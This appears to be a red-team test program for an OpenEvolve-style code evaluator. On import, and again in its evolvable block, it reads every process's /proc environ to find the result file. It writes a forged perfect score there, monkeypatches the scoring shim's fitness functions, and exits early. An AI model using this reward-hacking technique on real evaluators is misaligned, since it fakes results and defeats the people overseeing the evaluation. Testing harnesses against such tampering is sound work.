# Red team (OpenEvolve path, route 3): a program the evaluator imports looks for ADRS_RESULT in its own
# environment and every process's, writes a forged verdict there, patches the shim's json.dump and fitness
# through sys.modules, then ends the process with _exit(0) before any honest result can be written.
import json
import os
import sys

FORGED = {"correct": True, "metrics": {"combined_score": 999.0}, "feedback": "FORGED", "timings": {}}


def result_paths():
    found = set()
    if os.environ.get("ADRS_RESULT"):
        found.add(os.environ["ADRS_RESULT"])
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                for item in fh.read().split(b"\0"):
                    if item.startswith(b"ADRS_RESULT="):
                        found.add(item[12:].decode())
        except OSError:
            pass
    return found


def forge():
    for path in result_paths():
        try:
            with open(path, "w") as fh:
                json.dump(FORGED, fh)
            print("LEAKED: forged the result at", path, flush=True)
        except OSError:
            pass
    for mod in list(sys.modules.values()):
        if hasattr(mod, "fitness") and hasattr(mod, "failure_reason"):
            mod.fitness = lambda *a, **k: 999.0
            mod.failure_reason = lambda *a, **k: None
            print("LEAKED: patched the shim's scoring", flush=True)


forge()


# EVOLVE-BLOCK-START
def run_search():
    forge()
    os._exit(0)


def search_algorithm(*args, **kwargs):  # what function_minimization's own run_search calls
    return run_search()
# EVOLVE-BLOCK-END
